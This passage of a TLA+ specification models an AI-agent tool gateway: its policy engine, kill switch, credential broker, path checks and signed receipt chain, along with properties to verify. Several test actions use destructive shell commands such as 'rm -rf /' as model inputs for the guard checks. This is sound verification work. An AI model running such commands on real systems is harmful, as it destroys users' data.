        /\ UNCHANGED <<registryVars, valid_tokens, authzVars, credVars, preflightVars,
                       incidentVars, emitterVars, ks_prior, cryptoVars>>

\* the process that imports crypto_core, with the cryptography library present
\* or not, and opens one demo episode
InitCrypto ==
    /\ GatewayInit
    /\ output_path = receipts_path
    /\ HAS_CRYPTO \in BOOLEAN
    /\ parent_hash = <<"None">>
    /\ store = <<>>
    /\ running = <<>>

NextCrypto ==
    \/ \E parent_hashes \in {<<>>, <<Sha256Hex(<<>>)>>}, proof_tier \in {"none", "court"},
          keypair \in KeyPairs \cup {Nil} :
           CreateReceiptCall("crs.agent_action/v1", [a |-> "1"], parent_hashes, proof_tier, keypair)
    \/ \E keypair \in KeyPairs : SignReceiptCall(keypair)
    \/ TamperReceiptHash
    \/ \E value \in {[str |-> "abc"], Nil,
                       [alg |-> "Ed25519", key_id |-> "k1", sig |-> [str |-> "abc"]],
                       [alg |-> "Ed25519", key_id |-> "k1", sig |-> Nil]} :
           CorruptSignature(value)
    \/ \E keypair \in KeyPairs \cup {[key_id |-> "k1", private_key |-> <<>>,
                                         public_key |-> <<"short">>]} :
           VerifySignatureCall(keypair)
    \/ VerifyReceiptHashCall
    \/ VerifyChainCall([k1 |-> GenerateKeypair("k1", "seed1").public_key])
    \/ \E signature \in {Nil, [str |-> "sig1"]} :
           SubmitPlan([summary |-> "cleanup", steps |-> <<>>, subject |-> "user",
                       signature |-> signature])
    \/ \E i \in 1..Len(store), verdict \in {"ALLOW", "DENY"} :
           /\ store[i]["receipt_type"] = "csp.tool_safety.plan.v1"
           /\ GuardianVerdict(store[i], verdict)

SpecCrypto == InitCrypto /\ [][NextCrypto]_vars

(***************************************************************************)
(* Receipt logs that are written, altered and verified.                    *)
(***************************************************************************)
NextChain ==
    \/ SubmitPlan([summary |-> "cleanup", steps |-> <<>>, subject |-> "user", signature |-> Nil])
    \/ \E i \in 1..Len(store) :
           /\ store[i]["receipt_type"] = "csp.tool_safety.plan.v1"
           /\ GuardianVerdict(store[i], "ALLOW")
    \/ \E parent_hashes \in {<<>>, <<Sha256Hex(<<>>)>>} \cup
                            {<<store[j]["receipt_hash"]>> : j \in {Len(store)} \ {0}} \cup
                            {<<CreateReceipt("crs.agent_action/v1", [a |-> "1"], <<>>, "none",
                                             Nil, <<"uuid", Len(store) + 2>>, "t1")["receipt_hash"]>>} :
           WriteReceipt(parent_hashes, "none", Nil)
    \/ WriteReceipt(<<>>, "court", GenerateKeypair("k1", "seed1"))
    \/ AlterReceipt("payload", [a |-> "2"], FALSE)
    \/ \E last \in {store[i] : i \in {Len(store)} \ {0}} :
           \/ "parent_hash" \in DOMAIN last /\ AlterReceipt("parent_hash", Sha256Hex(<<>>), TRUE)
           \/ "parent_hashes" \in DOMAIN last
                  /\ AlterReceipt("parent_hashes", <<last["receipt_hash"]>>, FALSE)
           \/ "signature" \in DOMAIN last /\ AlterReceipt("signature", [str |-> "abc"], FALSE)
    \/ \E public_keys \in {<<>>, [k1 |-> GenerateKeypair("k1", "seed1").public_key],
                              [k2 |-> GenerateKeypair("k2", "seed2").public_key]} :
           VerifyChainCall(public_keys)

SpecChain == InitCrypto /\ [][NextChain]_vars

(***************************************************************************)
(* A receipt directory that producers fill and the validators are run on.  *)
(***************************************************************************)
NextValidate ==
    \/ SubmitPlan([summary |-> "cleanup", steps |-> <<>>, subject |-> "user", signature |-> Nil])
    \/ \E i \in 1..Len(store), verdict \in {"ALLOW", "DENY"} :
           /\ store[i]["receipt_type"] = "csp.tool_safety.plan.v1"
           /\ GuardianVerdict(store[i], verdict)
    \/ \E parent_hashes \in {<<>>} \cup {<<store[j]["receipt_hash"]>> : j \in {Len(store)} \ {0}},
          proof_tier \in {"none", "court"} :
           WriteReceipt(parent_hashes, proof_tier, Nil)
    \/ WriteReceipt(<<>>, "court", GenerateKeypair("k1", "seed1"))
    \/ \E last \in {store[i] : i \in {Len(store)} \ {0}},
          payload \in {[command |-> "rm -rf /", outcome |-> "success"],
                       [command |-> "rm -r build", outcome |-> "executed"],
                       [command |-> "ls", outcome |-> "success"]} :
           "payload" \in DOMAIN last /\ AlterReceipt("payload", payload, FALSE)
    \/ \E path \in {"missing", "receipts"} : ValidateMain(path)
    \/ \E path \in {"missing", "receipts"} : VerifyEpisodeMain(path)

SpecValidate == InitCrypto /\ [][NextValidate]_vars

(***************************************************************************)
(* The demo wrapper: plans are submitted, verdicts given and actions       *)
(* attempted with the plan and verdict receipts the caller chooses to pass *)
(* (receipts of the episode, or dicts that were never emitted).            *)
(***************************************************************************)
NextAttempt ==
    \/ \E risk \in {"LOW", "HIGH", "high"} :
           SubmitPlan([summary |-> "cleanup", subject |-> "user", signature |-> Nil,
                       steps |-> <<[tool |-> "shell", command |-> "rm -rf build",
                                    scope |-> "build", risk |-> risk]>>])
    \/ \E i \in 1..Len(store), verdict \in {"ALLOW", "DENY"} :
           /\ store[i]["receipt_type"] = "csp.tool_safety.plan.v1"
           /\ GuardianVerdict(store[i], verdict)
    \/ \E mode \in {"basic", "standard"},
          action \in {[tool |-> "shell", command |-> "rm -rf build", scope |-> "build"],
                      [tool |-> "shell", command |-> "rm -rf build", scope |-> "src"],
                      [tool |-> "shell", command |-> "rm -rf build", scope |-> None],
                      [tool |-> "shell", command |-> "rm -rf /", scope |-> "build"],
                      [tool |-> "shell", command |-> "ls", scope |-> "build"]},
          plan_receipt \in {Nil,
                            [receipt_type |-> "csp.tool_safety.plan.v1", plan_id |-> "plan0",
                             receipt_hash |-> Sha256Hex(<<"unwritten">>),
                             steps |-> <<[tool |-> "shell", command |-> "rm -rf build",
                                          scope |-> "build", risk |-> "HIGH"]>>]}
                           \cup {store[i] : i \in {j \in 1..Len(store) :
                                    store[j]["receipt_type"] = "csp.tool_safety.plan.v1"}},
          verdict_receipt \in {Nil,
                               [receipt_type |-> "csp.tool_safety.verdict.v1",
                                verdict_id |-> "verdict0", verdict |-> "ALLOW",
                                plan_hash |-> Sha256Hex(<<"unwritten">>)]}
                              \cup {store[i] : i \in {j \in 1..Len(store) :
                                       store[j]["receipt_type"] = "csp.tool_safety.verdict.v1"}} :
           AttemptAction(mode, action, plan_receipt, verdict_receipt)

SpecAttempt == InitCrypto /\ [][NextAttempt]_vars


(***************************************************************************)
(* The classifier on its own: classify called with any tool kind and any   *)
(* of the commands.                                                        *)
(***************************************************************************)
NextClassify ==
    \E tool \in ClassifyTools, command \in ClassifyCommands : ClassifyCall(tool, command)

SpecClassify == InitCrypto /\ [][NextClassify]_vars


(***************************************************************************)
(* One episode filled by sequential calls of the demo wrapper and then     *)
(* verified: the plan receipt handed to guardian_verdict is one of the     *)
(* episode or one that was emitted on another episode.                     *)
(***************************************************************************)
\* the receipt submit_plan returned for a plan submitted on another episode
OtherEpisodePlan ==
    LET base == [receipt_id |-> <<"rcpt", 0>>, receipt_type |-> "csp.tool_safety.plan.v1",
                 ts |-> "t0", episode_id |-> "ep0", parent_hash |-> <<"None">>,
                 plan_id |-> "plan0", subject |-> "user", summary |-> "cleanup",
                 steps |-> <<[tool |-> "shell", command |-> "rm -rf build",
                              scope |-> "build", risk |-> "HIGH"]>>,
                 signature |-> Nil]
    IN  ("receipt_hash" :> ComputeReceiptHash(base)) @@ base

NextEpisode ==
    \/ SubmitPlan([summary |-> "cleanup", subject |-> "user", signature |-> Nil,
                   steps |-> <<[tool |-> "shell", command |-> "rm -rf build",
                                scope |-> "build", risk |-> "HIGH"]>>])
    \/ \E plan_receipt \in {OtherEpisodePlan}
                             \cup {store[i] : i \in {j \in 1..Len(store) :
                                      store[j]["receipt_type"] = "csp.tool_safety.plan.v1"}},
          verdict \in {"ALLOW", "DENY"} :
           GuardianVerdict(plan_receipt, verdict)
    \/ \E mode \in {"basic", "standard"},
          action \in {[tool |-> "shell", command |-> "rm -rf build", scope |-> "build"],
                      [tool |-> "shell", command |-> "rm -rf /", scope |-> "build"],
                      [tool |-> "shell", command |-> "ls", scope |-> "build"]},
          plan_receipt \in {Nil} \cup {store[i] : i \in {j \in 1..Len(store) :
                                          store[j]["receipt_type"] = "csp.tool_safety.plan.v1"}},
          verdict_receipt \in {Nil} \cup {store[i] : i \in {j \in 1..Len(store) :
                                          store[j]["receipt_type"] = "csp.tool_safety.verdict.v1"}} :
           AttemptAction(mode, action, plan_receipt, verdict_receipt)
    \/ VerifyEpisodeMain("receipts")

SpecEpisode == InitCrypto /\ [][NextEpisode]_vars


(***************************************************************************)
(* A log of plan and action receipts, each naming no parent or one earlier *)
(* receipt, handed to the validator.                                       *)
(***************************************************************************)
NextPlanCheck ==
    \/ \E parent_hashes \in {<<>>} \cup {<<store[j]["receipt_hash"]>> : j \in 1..Len(store)} :
           WriteTyped("csp.tool_safety.plan.v1", [a |-> "1"], parent_hashes)
    \/ \E payload \in {[a |-> "1"],
                       [command |-> "rm -r build", outcome |-> "executed"],
                       [command |-> "rm -r build", outcome |-> "executed",
                        plan_id |-> <<"uuid", 1>>]},
          parent_hashes \in {<<>>} \cup {<<store[j]["receipt_hash"]>> : j \in 1..Len(store)} :
           WriteTyped("crs.agent_action/v1", payload, parent_hashes)
    \/ ValidateMain("receipts")

SpecPlanCheck == InitCrypto /\ [][NextPlanCheck]_vars

(***************************************************************************)
(* Two threads that emit receipts on the same episode.                     *)
(***************************************************************************)
NextEmit ==
    \E t \in {"thread1", "thread2"},
       receipt_type \in {"csp.tool_safety.refusal.v1", "csp.tool_safety.exec.v1"} :
        EmitThread(t, receipt_type, [outcome |-> "done"])

SpecEmit == InitCrypto /\ [][NextEmit]_vars

(***************************************************************************)
(* The incident controller and the receipt emitter with listeners, called  *)
(* directly; the emitter is built with or without an output file.          *)
(***************************************************************************)
InitListeners ==
    /\ GatewayInit
    /\ output_path \in {None, "receipts.jsonl"}
    /\ HAS_CRYPTO = None
    /\ parent_hash = None
    /\ store = <<>>
    /\ running = <<>>

NextListeners ==
    \/ \E listener \in {"ok", "raises"} : AddListener(listener)
    \/ \E listener \in {"ok", "raises"} : IncidentAddListener(listener)
    \/ \E arguments \in {ArgsEmpty, ArgsOk, ArgsUnserializable} :
           EmitCall(Anonymous, "tools/list", DenyNoAuthn, NoTokenHandling, arguments)
    \/ \E tool_names \in {<<>>, <<"fs_read">>, <<"fs_read", "fs_delete">>},
          actor \in {"system", "alice"} :
           \/ IncidentActivateKillSwitch(tool_names, actor)
           \/ IncidentDeactivateKillSwitch(tool_names, actor)
    \/ \E session_id \in {"s1", "s2"}, actor \in {"system", "alice"} :
           \/ QuarantineSession(session_id, actor)
           \/ ReleaseSession(session_id, actor)
    \/ \E principal_sub \in Subjects, actor \in {"system", "alice"} :
           \/ RevokePrincipal(principal_sub, actor)
           \/ ReinstatePrincipal(principal_sub, actor)

SpecListeners == InitListeners /\ [][NextListeners]_vars

(***************************************************************************)
(* Properties of the policy engine.                                        *)
(***************************************************************************)
DenyWith(code) == Decision("deny", <<code>>)

\* ret holds the Decision of an evaluate call made in the current state
EvaluateReturned == ret.method = "evaluate"

\* some registry entry carries the tool name
Registered(tool_name) == \E i \in 1..Len(tools) : tools[i].tool_name = tool_name

\* the subject has a Permission record
HasRecord(sub) == sub \in DOMAIN permissions

\* LOW < MEDIUM < HIGH < CRITICAL
RiskRank(r) == CASE r = "LOW" -> 1 [] r = "MEDIUM" -> 2 [] r = "HIGH" -> 3 [] r = "CRITICAL" -> 4

\* the risk categories of the registry entries that carry the tool name
RisksOf(tool_name) ==
    {tools[i].risk_category : i \in {j \in 1..Len(tools) : tools[j].tool_name = tool_name}}

\* C3 as stated: for a principal with no Permission record, evaluate returns deny
\* with DENY_NO_MATCHING_RULE for every tool name, in every state of the registry
\* and of the kill-switch set.
C3_NoRecordAlwaysNoMatchingRule ==
    (EvaluateReturned /\ ~HasRecord(ret.sub))
        => ret.decision = DenyWith("DENY_NO_MATCHING_RULE")

\* C3 amended: for a principal with no Permission record, evaluate returns deny for
\* every tool name in every state: with DENY_KILL_SWITCH when the tool is
\* kill-switched, else with DENY_TOOL_NOT_FOUND when no tool of that name is
\* registered, else with DENY_NO_MATCHING_RULE.
C3_NoRecordDenied ==
    (EvaluateReturned /\ ~HasRecord(ret.sub))
        => /\ ret.decision.result = "deny"
           /\ ret.decision =
                IF ret.tool_name \in kill_switch_tools THEN DenyWith("DENY_KILL_SWITCH")
                ELSE IF ~Registered(ret.tool_name) THEN DenyWith("DENY_TOOL_NOT_FOUND")
                ELSE DenyWith("DENY_NO_MATCHING_RULE")

C3_Witness ==
    /\ EvaluateReturned
    /\ ~HasRecord(ret.sub)
    /\ Registered(ret.tool_name)
    /\ ret.tool_name \notin kill_switch_tools
    /\ \E s \in DOMAIN permissions : ret.tool_name \in permissions[s].allowed_tools
    /\ ret.decision = DenyWith("DENY_NO_MATCHING_RULE")

\* C4: evaluate is fail-closed: it returns allow only if the tool is not
\* kill-switched, a tool of that name is registered, the principal has a Permission
\* record, the tool is in allowed_tools and not in denied_tools, and the tool's risk
\* category does not exceed max_risk; otherwise it returns deny or require_approval.
C4_FailClosed ==
    EvaluateReturned =>
        /\ ret.decision.result \in DecisionResult
        /\ ret.decision.result = "allow" =>
              /\ ret.tool_name \notin kill_switch_tools
              /\ Registered(ret.tool_name)
              /\ HasRecord(ret.sub)
              /\ ret.tool_name \in permissions[ret.sub].allowed_tools
              /\ ret.tool_name \notin permissions[ret.sub].denied_tools
              /\ \E r \in RisksOf(ret.tool_name) :
                    RiskRank(r) <= RiskRank(permissions[ret.sub].max_risk)

C4_Witness ==
    /\ EvaluateReturned
    /\ ret.decision.result = "allow"
    /\ permissions[ret.sub].denied_tools # {}

\* C5: whenever the tool name is in the kill-switch set, evaluate returns deny with
\* exactly DENY_KILL_SWITCH, whatever the registry and the permissions hold.
C5_KillSwitchOverrides ==
    (EvaluateReturned /\ ret.tool_name \in kill_switch_tools)
        => ret.decision = DenyWith("DENY_KILL_SWITCH")

C5_Witness ==
    /\ EvaluateReturned
    /\ ret.tool_name \in kill_switch_tools
    /\ EvaluatePolicy(ret.sub, ret.tool_name).result = "allow"
    /\ \E t \in kill_switch_tools : ~Registered(t)
    /\ ret.decision = DenyWith("DENY_KILL_SWITCH")

\* C6: activate_kill_switch(S) makes every decision for a tool of S deny with
\* DENY_KILL_SWITCH and leaves the decision for every other tool as it was;
\* deactivate_kill_switch(S) gives each tool of S, for every subject, the decision
\* it had before its kill switch was switched on (policy and registry not having
\* been changed in between).
C6_KillSwitchScoping ==
    [][ (UNCHANGED <<cryptoVars, permissions, tools>> /\ ret' = NoReturn) =>
        /\ \A S \in AuthzToolLists : ActivateKillSwitch(S) =>
              /\ \A x \in S, s \in Subjects : Evaluate(s, x)' = DenyWith("DENY_KILL_SWITCH")
              /\ \A y \in ToolNames \ S : DecisionsFor(y)' = DecisionsFor(y)
        /\ \A S \in AuthzToolLists : DeactivateKillSwitch(S) =>
              \A x \in S : ks_prior[x] # Nil => DecisionsFor(x)' = ks_prior[x]
      ]_vars

C6_Witness ==
    \E x \in kill_switch_tools, y \in ToolNames \ kill_switch_tools :
        /\ ks_prior[x] # Nil
        /\ ks_prior[x]["alice"].result = "allow"
        /\ Evaluate("alice", x) = DenyWith("DENY_KILL_SWITCH")
        /\ Evaluate("alice", y).result = "allow"

\* C9 as stated: for a principal whose Permission holds a tool in both allowed_tools
\* and denied_tools, evaluate returns deny with DENY_NO_PERMISSION and can_discover
\* returns false for that tool.
C9_DenialWinsNoPermission ==
    /\ (EvaluateReturned /\ HasRecord(ret.sub)
            /\ ret.tool_name \in permissions[ret.sub].allowed_tools
            /\ ret.tool_name \in permissions[ret.sub].denied_tools)
          => ret.decision = DenyWith("DENY_NO_PERMISSION")
    /\ \A s \in DOMAIN permissions, i \in 1..Len(tools) :
          (tools[i].tool_name \in permissions[s].allowed_tools \cap permissions[s].denied_tools)
              => ~CanDiscover(s, tools[i])

\* C9 amended: for a principal whose Permission holds a tool in both allowed_tools
\* and denied_tools, evaluate returns deny, with DENY_NO_PERMISSION when a tool of
\* that name is registered and not kill-switched (DENY_KILL_SWITCH when it is
\* kill-switched, else DENY_TOOL_NOT_FOUND when it is not registered), and
\* can_discover returns false for that tool.
C9_DenialWins ==
    /\ (EvaluateReturned /\ HasRecord(ret.sub)
            /\ ret.tool_name \in permissions[ret.sub].allowed_tools
            /\ ret.tool_name \in permissions[ret.sub].denied_tools)
          => /\ ret.decision.result = "deny"
             /\ ret.decision =
                  IF ret.tool_name \in kill_switch_tools THEN DenyWith("DENY_KILL_SWITCH")
                  ELSE IF ~Registered(ret.tool_name) THEN DenyWith("DENY_TOOL_NOT_FOUND")
                  ELSE DenyWith("DENY_NO_PERMISSION")
    /\ \A s \in DOMAIN permissions, i \in 1..Len(tools) :
          (tools[i].tool_name \in permissions[s].allowed_tools \cap permissions[s].denied_tools)
              => ~CanDiscover(s, tools[i])

C9_Witness ==
    /\ EvaluateReturned
    /\ HasRecord(ret.sub)
    /\ ret.tool_name \in permissions[ret.sub].allowed_tools
    /\ ret.tool_name \in permissions[ret.sub].denied_tools
    /\ Registered(ret.tool_name)
    /\ ret.tool_name \notin kill_switch_tools
    /\ ret.decision = DenyWith("DENY_NO_PERMISSION")

\* C10: for a registered tool that is not kill-switched and is allowed and not denied
\* for the principal, evaluate returns require_approval with REQUIRE_APPROVAL exactly
\* when the tool's risk category is strictly above the principal's max_risk in the
\* order LOW < MEDIUM < HIGH < CRITICAL, and allow with ALLOW_POLICY_MATCH otherwise;
\* it never returns deny.
C10_RiskCeiling ==
    (EvaluateReturned /\ Registered(ret.tool_name) /\ ret.tool_name \notin kill_switch_tools
        /\ HasRecord(ret.sub)
        /\ ret.tool_name \in permissions[ret.sub].allowed_tools
        /\ ret.tool_name \notin permissions[ret.sub].denied_tools)
      => LET max == RiskRank(permissions[ret.sub].max_risk)
             risks == RisksOf(ret.tool_name)
         IN  /\ ret.decision.result # "deny"
             /\ (\A r \in risks : RiskRank(r) > max)
                    => ret.decision = Decision("require_approval", <<"REQUIRE_APPROVAL">>)
             /\ (\A r \in risks : RiskRank(r) <= max)
                    => ret.decision = Decision("allow", <<"ALLOW_POLICY_MATCH">>)

C10_Witness ==
    /\ EvaluateReturned
    /\ Registered(ret.tool_name)
    /\ HasRecord(ret.sub)
    /\ ret.tool_name \in permissions[ret.sub].allowed_tools
    /\ RisksOf(ret.tool_name) = {"CRITICAL"}
    /\ permissions[ret.sub].max_risk = "HIGH"
    /\ ret.decision = Decision("require_approval", <<"REQUIRE_APPROVAL">>)

(***************************************************************************)
(* Properties of the gateway.                                              *)
(***************************************************************************)
\* ret holds what a tools/call request made in the current state came to
CallMade == ret.method = "tools/call"

\* the principal the request of ret authenticates as, if it does
Caller == Authenticate(ret.token)

StageOrder == <<"authenticate", "revocation", "authorize", "preflight", "broker">>

\* the request names an upstream server
NamesServer(server_id) == server_id # None /\ server_id # ""

\* the stage, consulted on its own for the request of ret, stops the request
StageFails(stage) ==
    CASE stage = "authenticate" -> ~Caller.authenticated
      [] stage = "revocation" -> Caller.authenticated /\ IsRevoked(Caller.principal)
      [] stage = "authorize" ->
            Caller.authenticated /\ Evaluate(Caller.principal.sub, ret.tool_name).result # "allow"
      [] stage = "preflight" ->
            LET validation == Validate(ret.tool_name, ret.arguments)
            IN  validation.raised \/ ~validation.valid
      [] stage = "broker" ->
            /\ NamesServer(ret.server_id)
            /\ GetUpstreamCredential(ret.token, ret.server_id).handling.passthrough_detected

\* the Decision with which the stage stops the request of ret
StageDecision(stage) ==
    CASE stage = "authenticate" -> DenyNoAuthn
      [] stage = "revocation" -> DenyWith("DENY_KILL_SWITCH")
      [] stage = "authorize" -> Evaluate(Caller.principal.sub, ret.tool_name)
      [] stage = "preflight" -> ToDecision(Validate(ret.tool_name, ret.arguments))
      [] stage = "broker" -> DenyPassthrough

\* the positions in StageOrder of the stages that stop the request of ret
FailingStages == {i \in 1..Len(StageOrder) : StageFails(StageOrder[i])}

\* C1 as stated: every call of handle_tools_list or handle_tools_call appends
\* exactly one receipt to the receipt store, and that receipt's decision is the
\* Decision returned to the caller.
C1_OneReceiptPerCall ==
    [][ ret'.method \in {"tools/call", "tools/list"} =>
            /\ ret'.outcome = "returned"
            /\ Len(receipts') = Len(receipts) + 1
            /\ receipts'[Len(receipts')].decision = ret'.decision
      ]_vars

\* C2: handle_tools_call consults its stages in the order authenticate,
\* revocation check, authorize, preflight, credential brokering (the last only
\* when a server is named) and stops at the first stage that fails: the stages
\* consulted are the order's prefix up to that stage, no later stage is consulted,
\* and the Decision returned is that stage's; when no stage fails every stage is
\* consulted and the Decision is allow.
C2_StageOrder ==
    CallMade =>
        /\ \E n \in 1..Len(StageOrder) : ret.stages = SubSeq(StageOrder, 1, n)
        /\ FailingStages # {} =>
              LET first == CHOOSE i \in FailingStages : \A j \in FailingStages : i <= j
              IN  /\ ret.stages = SubSeq(StageOrder, 1, first)
                  /\ ret.outcome = "returned" => ret.decision = StageDecision(StageOrder[first])
        /\ FailingStages = {} =>
              /\ ret.stages = SubSeq(StageOrder, 1, IF NamesServer(ret.server_id) THEN 5 ELSE 4)
              /\ ret.outcome = "returned"
                    => ret.decision = Decision("allow", <<"ALLOW_POLICY_MATCH">>)

C2_Witness ==
    /\ CallMade
    /\ ret.outcome = "returned"
    /\ {3, 4, 5} \subseteq FailingStages
    /\ 2 \notin FailingStages
    /\ ret.stages = <<"authenticate", "revocation", "authorize">>
    /\ ret.decision = Decision("require_approval", <<"REQUIRE_APPROVAL">>)
    /\ receipts[Len(receipts)].decision = ret.decision

\* C7 as stated: while a tool is in the incident controller's kill-switch set,
\* every handle_tools_call for it (by a caller who authenticates and is not
\* revoked) returns deny with DENY_KILL_SWITCH, whatever the caller's permissions.
C7_IncidentKillSwitchDenies ==
    (CallMade /\ ret.outcome = "returned" /\ IsKilled(ret.tool_name)
        /\ Caller.authenticated /\ ~IsRevoked(Caller.principal))
      => ret.decision = DenyWith("DENY_KILL_SWITCH")

\* C8 as stated: while a principal is revoked, every handle_tools_call that
\* authenticates as it returns deny with exactly DENY_KILL_SWITCH, regardless of
\* tool, permissions, kill-switch state and arguments, and without authorization,
\* preflight or credential brokering being run.
C8_RevokedAlwaysDenied ==
    (CallMade /\ Caller.authenticated /\ IsRevoked(Caller.principal))
      => /\ ret.outcome = "returned"
         /\ ret.decision = DenyWith("DENY_KILL_SWITCH")
         /\ ret.stages = <<"authenticate", "revocation">>

(***************************************************************************)
(* Properties of credential brokering.                                     *)
(***************************************************************************)
\* the broker has neither a vault secret nor an exchange configuration for the server
Unconfigured(server_id) ==
    server_id \notin DOMAIN vault /\ server_id \notin DOMAIN exchange_config

\* C11: no receipt in the store has decision allow together with
\* token_handling.passthrough_detected = true, under every configuration of the
\* credential broker, allow_passthrough(True) included.
C11_NoAllowWithPassthrough ==
    \A i \in 1..Len(receipts) :
        ~(receipts[i].decision.result = "allow"
            /\ receipts[i].token_handling.passthrough_detected)

C11_Witness ==
    /\ ~passthrough_blocked
    /\ CallMade
    /\ ret.outcome = "returned"
    /\ ret.decision = DenyPassthrough
    /\ receipts[Len(receipts)].token_handling = TokenHandling("none", TRUE, None)
    /\ receipts[Len(receipts)].decision.result = "deny"

\* C12 as stated: for any client token and any server with neither a vault
\* secret nor an exchange configuration, get_upstream_credential returns no
\* credential and a TokenHandling with passthrough_detected = true, and a
\* handle_tools_call naming that server returns deny with DENY_PASSTHROUGH_BLOCKED.
C12_UnconfiguredCallDeniedPassthrough ==
    /\ (ret.method = "get_upstream_credential" /\ Unconfigured(ret.target_server))
          => ret.credential = Nil /\ ret.handling.passthrough_detected
    /\ (CallMade /\ NamesServer(ret.server_id) /\ Unconfigured(ret.server_id))
          => ret.outcome = "returned" /\ ret.decision = DenyPassthrough

\* C12, amended: for any client token and any server with neither a vault secret
\* nor an exchange configuration, get_upstream_credential returns no credential
\* and a TokenHandling with passthrough_detected = true; a handle_tools_call
\* naming that server never returns allow, and the Decision it returns is deny
\* with DENY_PASSTHROUGH_BLOCKED exactly when authentication, the revocation
\* check, authorization and preflight all pass (an earlier failing stage returns
\* its own Decision).
C12_UnconfiguredNeverAllowed ==
    /\ (ret.method = "get_upstream_credential" /\ Unconfigured(ret.target_server))
          => ret.credential = Nil /\ ret.handling.passthrough_detected
    /\ (CallMade /\ NamesServer(ret.server_id) /\ Unconfigured(ret.server_id)
            /\ ret.outcome = "returned")
          => /\ ret.decision.result # "allow"
             /\ ret.decision = DenyPassthrough <=> FailingStages \cap (1..4) = {}

C12_Witness ==
    /\ CallMade
    /\ ret.outcome = "returned"
    /\ ret.server_id = "server_c"
    /\ Unconfigured("server_c")
    /\ FailingStages = {5}
    /\ ret.decision = DenyPassthrough
    /\ receipts[Len(receipts)].token_handling.passthrough_detected

\* C13 as stated: for every client token, target server and vault/exchange
\* configuration, a credential returned by get_upstream_credential (mode vault
\* or exchanged) has a token that differs from the client token.
C13_CredentialDiffersFromClientToken ==
    (ret.method = "get_upstream_credential" /\ ret.credential # Nil)
      => /\ ret.credential.mode \in {"vault", "exchanged"}
         /\ ret.credential.token # Chars(ret.client_token)

(***************************************************************************)
(* Properties of authentication and discovery at the gateway.              *)
(***************************************************************************)
\* C14 as stated: for a missing, empty or unknown token, handle_tools_list and
\* handle_tools_call return deny with DENY_NO_AUTHN (handle_tools_list returning
\* no tool list), emit a receipt attributed to principal 'anonymous', and
\* evaluate no later stage.
C14_AuthnFailureTerminal ==
    ((CallMade \/ ret.method = "tools/list") /\ ~Caller.authenticated)
      => /\ ret.outcome = "returned"
         /\ ret.decision = DenyNoAuthn
         /\ ret.receipt.principal = Anonymous
         /\ receipts[Len(receipts)] = ret.receipt
         /\ ret.method = "tools/list" => ret.visible_tools = Nil
         /\ CallMade => ret.stages = <<"authenticate">>

\* the tool names a principal is granted and not denied
Grants(sub) ==
    IF sub \in DOMAIN permissions
    THEN permissions[sub].allowed_tools \ permissions[sub].denied_tools
    ELSE {}

C16_VisibleImpliesAllowed ==
    (ret.method = "tools/list" /\ ret.outcome = "returned" /\ Caller.authenticated) =>
        \A i \in 1..Len(ret.visible_tools) :
            Evaluate(Caller.principal.sub, ret.visible_tools[i].tool_name).result = "allow"

(***************************************************************************)
(* Properties of preflight validation.                                     *)
(***************************************************************************)
\* how often the code appears among the reason codes of ret
CodeCount(code) ==
    Cardinality({i \in 1..Len(ret.result.reason_codes) : ret.result.reason_codes[i] = code})

\* the path and file_path values the arguments of ret supply
SuppliedPaths ==
    {ret.arguments[k] : k \in {"path", "file_path"} \cap DOMAIN ret.arguments}

\* C17 as stated: validate's reason codes contain DENY_PAYLOAD_TOO_LARGE iff the
\* serialized arguments exceed the byte ceiling (exactly the ceiling passes),
\* DENY_UNKNOWN_FIELDS iff a schema is registered for the tool and some argument
\* key is not among its known fields, and DENY_PATH_TRAVERSAL iff the tool is a
\* file tool whose path argument escapes the workspace; every failing check is
\* reported in the one Decision, each code at most once, and the result is valid
\* iff no code was reported.
C17_ChecksIndependent ==
    (ret.method = "validate" /\ ret.outcome = "returned") =>
        /\ CodeCount("DENY_PAYLOAD_TOO_LARGE") > 0
              <=> (JsonSerializable(ret.arguments) /\ JsonLen(ret.arguments) > MaxPayloadBytes)
        /\ CodeCount("DENY_UNKNOWN_FIELDS") > 0
              <=> (ret.tool_name \in DOMAIN schemas
                     /\ \E k \in DOMAIN ret.arguments : k \notin schemas[ret.tool_name])
        /\ CodeCount("DENY_PATH_TRAVERSAL") > 0
              <=> (ret.tool_name \in file_tools
                     /\ \E v \in SuppliedPaths : ~IsWithinWorkspace(v))
        /\ \A code \in ReasonCode : CodeCount(code) <= 1
        /\ ret.result.valid <=> ret.result.reason_codes = <<>>
        /\ ToDecision(ret.result).reason_codes = ret.result.reason_codes

\* C18 as stated: for a file tool with a workspace configured, validate reports
\* DENY_PATH_TRAVERSAL whenever a supplied path or file_path argument resolves
\* outside the workspace root, including when both are supplied and only one of
\* them escapes; a path that resolves to the root itself or beneath it is accepted.
C18_EveryPathArgumentChecked ==
    (ret.method = "validate" /\ ret.outcome = "returned" /\ ret.tool_name \in file_tools) =>
        /\ (\E v \in SuppliedPaths : ~IsWithinWorkspace(v))
              => CodeCount("DENY_PATH_TRAVERSAL") > 0
        /\ (\A v \in SuppliedPaths : IsWithinWorkspace(v))
              => CodeCount("DENY_PATH_TRAVERSAL") = 0

(***************************************************************************)
(* Properties of the receipt kernel.                                       *)
(***************************************************************************)
\* C19 as stated: every receipt produced by an emission operation
\* (crypto_core.create_receipt, signed or unsigned, and Episode.emit for every
\* receipt type, plan receipts included) satisfies hash(receipt without
\* receipt_hash and signature) = receipt.receipt_hash, so verify_receipt_hash
\* reports hash_valid for it; recomputing the hash gives the same value.
C19_HashRoundTrip ==
    /\ ret.method \in {"create_receipt", "emit"}
          => /\ CanonicalHash(ret.receipt, {"receipt_hash", "signature"})
                    = ret.receipt["receipt_hash"]
             /\ VerifyReceiptHash(ret.receipt)
    /\ (ret.method = "verify_receipt_hash" /\ ~ret.tampered) => ret.result
    /\ \A i \in 1..Len(store) : VerifyReceiptHash(store[i])

\* C20 as stated: for every receipt carrying a receipt_hash and every key pair
\* produced by generate_keypair, verify_signature(sign_receipt(receipt, kp),
\* kp.public_key) is true; after changing the stored receipt_hash of the signed
\* receipt, or verifying against a different key pair's public key,
\* verify_signature returns false.
C20_SignatureRoundTrip ==
    (ret.method = "verify_signature" /\ ret.signer # Nil)
      => /\ (~ret.tampered /\ ret.verifier = ret.signer) => ret.result
         /\ ret.tampered => ~ret.result
         /\ ret.verifier # ret.signer => ~ret.result

\* C21 as stated: verify_signature is total: for every receipt object and every
\* public-key value (signature field missing, not a map, with a non-base64 sig,
\* or a key of the wrong length) it returns false instead of raising.
\* so a malformed receipt never aborts verify_chain over the rest of the log.
C21_VerifySignatureTotal ==
